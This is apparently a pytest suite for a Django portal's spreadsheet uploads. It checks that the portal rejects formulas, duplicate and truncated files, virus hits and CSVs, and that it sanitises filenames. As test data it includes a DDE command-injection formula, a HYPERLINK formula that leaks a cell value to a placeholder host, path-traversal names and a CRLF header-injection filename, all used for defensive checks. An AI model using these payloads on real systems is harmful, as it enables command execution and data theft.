"""Cases 52 to 59: mistaken contents, repetition, interruption, names. Each gets its answer; nothing typed is lost."""

from __future__ import annotations

import io
import re
import socket
import threading
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.db import connections
from django.test import Client
from django.urls import reverse
from openpyxl.cell.cell import MergedCell

from pelaporan.buku import batas, services
from pelaporan.models import Berkas, Unggahan
from pemasyarakatan.inti import pemindai
from pemasyarakatan.jejak.models import Jejak
from tests.dunia import Dunia
from tests.konkurensi.test_hari_tenggat import peladen
from tests.pelaporan import test_buku as bantu
from tests.serangan.buku.alat import SEL, ditolak, entri, ubah_zip
from upt.cakupan import SISTEM, terpasang

# ---------------------------------------------------------------- cells


@pytest.mark.parametrize("rumus", ["=1+1", "=SUM(E7:E8)", '=HYPERLINK("http://x?"&A1)', "=cmd|'/c calc'!A0"])
def test_52_rumus_di_sel_isian_ditolak(dunia: Dunia, klien: Client, unggah: Any, templat: bytes, rumus: str) -> None:
    buku = openpyxl.load_workbook(io.BytesIO(templat))
    bantu.isi(buku, SEL, rumus)
    satu = bantu.unggahan(unggah(bantu.tulis(buku)))
    r = bantu.rencana(satu)
    assert r["wbp"]["jenis"] == "ditolak"
    assert "bukan rumus" in r["wbp"]["pesan"]


def test_52_nilai_simpanan_rumus_tidak_dipercaya(dunia: Dunia, klien: Client, unggah: Any, templat: bytes) -> None:
    """The cached value says 12; the cell holds a formula all the same."""
    buku = openpyxl.load_workbook(io.BytesIO(templat))
    bantu.isi(buku, SEL, "=1+1")
    isi = bantu.tulis(buku)
    nama = next(n for n in zipfile.ZipFile(io.BytesIO(isi)).namelist() if b"<f>1+1</f>" in entri(isi, n))
    xml = re.sub(rb"<f>1\+1</f><v\s*/>|<f>1\+1</f><v></v>", b"<f>1+1</f><v>12</v>", entri(isi, nama))
    assert b"<v>12</v>" in xml
    satu = bantu.unggahan(unggah(ubah_zip(isi, {nama: xml})))
    assert bantu.rencana(satu)["wbp"]["jenis"] == "ditolak"
    bantu.putuskan(klien, satu)
    assert not bantu.sel(dunia, "wbp")


def test_53_templat_versi_lain(unggah: Any, templat: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(batas, "TEMPLAT", 2)
    ditolak(unggah(templat), 400, "Templat versi 1 tidak dipakai lagi. Unduh versi terbaru, lalu salin isinya.")


def test_53_kolom_tertukar_spasi_aneh_lembar_tambahan_baris_disisipkan(
    dunia: Dunia, unggah: Any, templat: bytes
) -> None:
    buku = openpyxl.load_workbook(io.BytesIO(templat))
    lembar = buku[bantu.KLASTER]
    bantu.isi(buku, SEL, 14)
    lembar["A5"].value = "\u00a0Kode "
    for r in range(5, lembar.max_row + 1):  # this month before last month
        if isinstance(lembar.cell(r, 4), MergedCell):  # the sentence below the name of a section
            continue
        lama, kini = lembar.cell(r, 4).value, lembar.cell(r, 5).value
        lembar.cell(r, 4).value, lembar.cell(r, 5).value = kini, lama
    lembar["D5"].value = "Bulan  ini\u00a0(Januari 2026)"
    r = bantu.baris(lembar, SEL)
    lembar.cell(r, 1).value = f"\u00a0{SEL} "
    lembar.insert_rows(7)
    lembar.cell(7, 4).value = 99
    lembar.merge_cells("F8:G8")
    buku.create_sheet("Catatan saya").append(["bebas"])
    satu = bantu.unggahan(unggah(bantu.tulis(buku)))
    rencana = bantu.rencana(satu)
    assert rencana["wbp"]["baru"] == "14"
    assert rencana["wbp"]["tempat"] == f"{bantu.KLASTER}!D{r + 1}"
    assert satu.rencana["galat"] == [
        [f"{bantu.KLASTER}!D7", "Baris ini tanpa kode butir, jadi tidak dibaca. Jangan menyisipkan baris."]
    ]
    assert "Lembar “Catatan saya” bukan bagian dari templat, jadi tidak dibaca." in satu.rencana["abaikan"]


def test_53_kode_asing_dan_kode_ganda(unggah: Any, templat: bytes) -> None:
    buku = openpyxl.load_workbook(io.BytesIO(templat))
    lembar = buku[bantu.KLASTER]
    lembar.cell(lembar.max_row + 1, 1).value = "F06.karangan"
    lembar.cell(lembar.max_row, 5).value = 3
    lembar.cell(lembar.max_row + 1, 1).value = SEL
    lembar.cell(lembar.max_row + 1, 1).value = "F99.wbp"
    pesan = [b["pesan"] for b in _semua(bantu.unggahan(unggah(bantu.tulis(buku))))]
    assert any("tidak ada di formulir" in p for p in pesan)
    assert any(f"sudah ada di {bantu.KLASTER}" in p for p in pesan)


def _semua(satu: Unggahan) -> list[dict[str, Any]]:
    return [b for laporan in satu.rencana["laporan"] for b in laporan["butir"]]


def test_54_dua_ribu_galat_seratus_tampil_semuanya_di_salinan(klien: Client, unggah: Any, templat: bytes) -> None:
    buku = openpyxl.load_workbook(io.BytesIO(templat))
    n = 0
    for lembar in buku.worksheets:
        for r in range(6, lembar.max_row + 1):
            if not lembar.cell(r, 5).protection.locked and str(lembar.cell(r, 1).value)[:1] == "F":
                lembar.cell(r, 5).value, n = "salah sekali", n + 1
    kejadian = buku["F04 Daftar kejadian"]
    for r in range(6, 56):
        for k in range(2, 15):
            kejadian.cell(r, k).value, n = "x" * 600, n + 1
    karangan = buku[bantu.KLASTER]
    akhir = karangan.max_row
    for r in range(akhir + 1, akhir + 1 + 2000 - n):  # codes that no form knows make up the rest
        karangan.cell(r, 1).value, karangan.cell(r, 5).value = f"F06.karangan_{r}", 1
    mulai = time.monotonic()
    satu = bantu.unggahan(unggah(bantu.tulis(buku)))
    halaman = klien.get(reverse("pelaporan:unggahan", args=[satu.pk])).content.decode()
    assert time.monotonic() - mulai < 6
    galat = [b for b in _semua(satu) if b["jenis"] == "ditolak"]
    assert len(galat) >= 2000
    assert f"100 dari {len(_semua(satu))} sel" in halaman
    assert f"catatan di {len(galat)} sel" in halaman
    assert halaman.count('data-judul="Keterangan"') == 100
    salinan = openpyxl.load_workbook(io.BytesIO(klien.get(reverse("pelaporan:unggahan_galat", args=[satu.pk])).content))
    komentar = sum(1 for ws in salinan for baris in ws.iter_rows() for c in baris if c.comment)
    assert komentar == len([b for b in galat if "karangan" not in b["alamat"]])
    daftar = salinan["Catatan portal"]
    assert daftar.max_row == 3 + len(galat), "every one of them, also what has no cell of its own"
    assert sum("karangan" in str(daftar.cell(r, 2).value) for r in range(4, 2004)) == 2000 - n


def test_55_berkas_yang_sama_dua_kali(dunia: Dunia, klien: Client, unggah: Any, templat: bytes) -> None:
    buku = openpyxl.load_workbook(io.BytesIO(templat))
    bantu.isi(buku, SEL, 14)
    isi = bantu.tulis(buku)
    pertama = bantu.unggahan(unggah(isi))
    assert bantu.unggahan(unggah(isi)).pk == pertama.pk, "an open plan of the same bytes is the same plan"
    bantu.putuskan(klien, pertama)
    jawaban = unggah(isi)
    assert jawaban.status_code == 409
    assert "identik dengan unggahan" in jawaban.content.decode()
    with terpasang(SISTEM):
        assert Unggahan.objects.count() == 1
        assert Berkas.objects.count() == 1


def test_55_baris_yang_disisipkan_tidak_menjadi_dua(dunia: Dunia, klien: Client, unggah: Any, templat: bytes) -> None:
    """Rows keep their identity in the workbook, so a corrected copy fills the same rows."""
    buku = openpyxl.load_workbook(io.BytesIO(templat))
    bantu._kejadian(buku, 6, tanggal="3/1/2026")
    bantu.putuskan(klien, bantu.unggahan(unggah(bantu.tulis(buku))))
    bantu._kejadian(buku, 6, jam="08:00")
    bantu.putuskan(klien, bantu.unggahan(unggah(bantu.tulis(buku))))
    assert len(bantu._baris_draf(dunia)) == 1


def test_56_unggahan_terputus_di_tengah(unggah: Any, templat: bytes) -> None:
    ditolak(unggah(templat[: len(templat) // 2]), 400, "rusak atau terpotong")


def test_56_sambungan_putus_di_tengah_unggahan(
    dunia_nyata: Dunia, templat_nyata: tuple[Client, bytes], tmp_path: Path
) -> None:
    """A real server and socket, cut on the way: nothing is kept, nothing breaks; the same request whole is taken."""
    klien, isi = templat_nyata
    with peladen(tmp_path) as porta:
        for porsi in (0.5, 0.99):
            assert b" 302 " not in _kirim_sebagian(porta, dunia_nyata, klien, isi, porsi)
        time.sleep(0.5)
        with terpasang(SISTEM):
            assert (Unggahan.objects.count(), Berkas.objects.count()) == (0, 0)
        assert b" 302 " in _kirim_sebagian(porta, dunia_nyata, klien, isi, 1)
    with terpasang(SISTEM):
        assert Unggahan.objects.get().status == Unggahan.Status.DIPERIKSA


def _kirim_sebagian(porta: int, dunia: Dunia, klien: Client, isi: bytes, porsi: float) -> bytes:
    """Post the file by hand and hang up after that share of the body; the first line of the answer, if any."""
    sandi = "a1b2c3d4" * 4
    kue = "; ".join([f"csrftoken={sandi}", *(f"{k}={v.value}" for k, v in klien.cookies.items() if k != "csrftoken")])
    badan = (
        f'--x\r\nContent-Disposition: form-data; name="csrfmiddlewaretoken"\r\n\r\n{sandi}\r\n'
        '--x\r\nContent-Disposition: form-data; name="berkas"; filename="a.xlsx"\r\n\r\n'
    ).encode() + isi + b"\r\n--x--\r\n"  # fmt: skip
    kepala = (
        f"POST {bantu.alamat(dunia)} HTTP/1.1\r\nHost: 127.0.0.1:{porta}\r\nCookie: {kue}\r\n"
        f"Content-Length: {len(badan)}\r\nContent-Type: multipart/form-data; boundary=x\r\n\r\n"
    )
    with socket.create_connection(("127.0.0.1", porta), timeout=30) as soket:
        soket.sendall(kepala.encode() + badan[: int(len(badan) * porsi)])
        if porsi < 1:
            return b""  # gone without a word, as a cable that was pulled
        return soket.recv(4096).partition(b"\r\n")[0]


def test_56_dua_unggahan_serentak_untuk_satu_laporan(dunia_nyata: Dunia, templat_nyata: tuple[Client, bytes]) -> None:
    """Two people, two files, the same moment: two plans; whoever saves second is told about the first, cell by cell."""
    klien, isi = templat_nyata
    berkas = []
    for nilai in (14, 15):
        buku = openpyxl.load_workbook(io.BytesIO(isi))
        bantu.isi(buku, SEL, nilai)
        berkas.append(bantu.tulis(buku))
    hasil = _serentak(
        [lambda orang, b=b: bantu.unggahan(bantu.unggah(orang, bantu.alamat(dunia_nyata), b)) for b in berkas], klien
    )
    assert len({satu.pk for satu in hasil}) == 2
    akhir = [bantu.putuskan(klien, satu) for satu in hasil]
    assert [a.hasil["tersimpan"] for a in akhir] == [1, 0]
    assert "tidak disimpan" in akhir[1].hasil["gagal"][0]["pesan"]
    pertama = bantu.rencana(hasil[0])["wbp"]["baru"]
    assert str(bantu.sel(dunia_nyata, "wbp")["nilai"]) == pertama


@pytest.fixture
def templat_nyata(dunia_nyata: Dunia) -> tuple[Client, bytes]:
    klien = Client()
    klien.force_login(dunia_nyata.operator_ambon)
    return klien, klien.get(bantu.alamat(dunia_nyata, "buku_templat")).content


def _serentak(kerja: list[Callable[[Client], Any]], klien: Client) -> list[Any]:
    """All of them at the same moment, each in its own thread with the same login."""
    gerbang, hasil = threading.Barrier(len(kerja)), [None] * len(kerja)

    def jalankan(n: int) -> None:
        orang = Client()
        orang.cookies = klien.cookies
        gerbang.wait()
        try:
            hasil[n] = kerja[n](orang)
        finally:
            connections.close_all()

    benang = [threading.Thread(target=jalankan, args=(n,)) for n in range(len(kerja))]
    [b.start() for b in benang]
    [b.join() for b in benang]
    return hasil


def test_56_dua_keputusan_serentak_satu_menang(dunia_nyata: Dunia) -> None:
    """Two presses of "Simpan" at the same moment: one saves, the other gets 409, the row is there once."""
    klien = Client()
    klien.force_login(dunia_nyata.operator_ambon)
    buku = bantu.ambil(klien, bantu.alamat(dunia_nyata, "buku_templat"))
    bantu._kejadian(buku, 6, tanggal="3/1/2026")
    satu = bantu.unggahan(bantu.unggah(klien, bantu.alamat(dunia_nyata), bantu.tulis(buku)))
    kode: list[int] = []
    gerbang = threading.Barrier(2)

    def tekan() -> None:
        orang = Client()
        orang.cookies = klien.cookies
        gerbang.wait()
        kode.append(orang.post(reverse("pelaporan:unggahan", args=[satu.pk]), {"aksi": "simpan"}).status_code)
        connections.close_all()

    benang = [threading.Thread(target=tekan) for _ in range(2)]
    [b.start() for b in benang]
    [b.join() for b in benang]
    assert sorted(kode) == [302, 409]
    assert len(bantu._baris_draf(dunia_nyata)) == 1


@pytest.mark.parametrize("hasil", ["virus", "mati"])
def test_57_pemindai(dunia: Dunia, unggah: Any, templat: bytes, monkeypatch: pytest.MonkeyPatch, hasil: str) -> None:
    def pindai(isi: bytes) -> pemindai.Hasil:
        if hasil == "mati":
            raise pemindai.PemindaiTidakMenjawab("Pemindai virus tidak menjawab. Coba unggah lagi beberapa menit lagi.")
        return pemindai.Hasil(dipindai=True, temuan="Eicar-Signature")

    dibaca = []
    monkeypatch.setattr(services, "pindai", pindai)
    monkeypatch.setattr(services, "baca_terbatas", lambda *a: dibaca.append(a))
    jawaban = unggah(templat)
    ditolak(jawaban, 400 if hasil == "virus" else 503, "Pemindai")
    assert not dibaca, "nothing is parsed"
    if hasil == "virus":
        with terpasang(SISTEM):
            assert Jejak.objects.filter(tindakan="unggahan_ditolak", rincian__temuan="Eicar-Signature").exists()


@pytest.mark.parametrize(
    ("nama", "tampil"),
    [
        ("../../etc/x.xlsx", "x.xlsx"), ("C:\\a\\b.xlsx", "b.xlsx"), ("a\u202excod.xlsx", "axcod.xlsx"),
        ("n" * 300 + ".xlsx", "n" * 120), ('a";\r\nSet-Cookie: x.xlsx', 'a";Set-Cookie: x.xlsx'),
        ("\u200b", "unggahan.xlsx"), ("CON", "CON"), ("laporan.xlsx.exe", "laporan.xlsx.exe"),
    ],
)  # fmt: skip
def test_58_nama_berkas_hanya_label(nama: str, tampil: str) -> None:
    assert services.nama_bersih(nama) == tampil


def test_58_nama_unduhan_dari_portal_sendiri(klien: Client, unggah: Any, templat: bytes) -> None:
    satu = bantu.unggahan(unggah(templat, 'a";\r\nSet-Cookie:x.xlsx'))
    jawaban = klien.get(reverse("pelaporan:unggahan_berkas", args=[satu.pk]))
    assert jawaban["Content-Disposition"] == f'attachment; filename="unggahan-{satu.pk}.xlsx"'
    assert "Set-Cookie:x" not in str(jawaban.headers)
    assert jawaban["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(
    "isi",
    [
        "kode;nilai\n".encode("utf-16"), "kode;nilai\né".encode("cp1252"), "\ufeffkode;nilai\n".encode(),
        b'kode;"tidak tertutup\n', b"kode\x00nilai", b"x" * 1024 * 1024,
    ],
    ids=["utf16", "cp1252", "bom", "kutip", "nul", "1MB"],
)  # fmt: skip
def test_59_csv_apa_pun_ditolak_dengan_petunjuk(unggah: Any, isi: bytes) -> None:
    """Only workbooks come in here; a CSV in whatever encoding is told so and never half read."""
    ditolak(unggah(isi, "isian.csv"), 415, "simpan sebagai .xlsx")
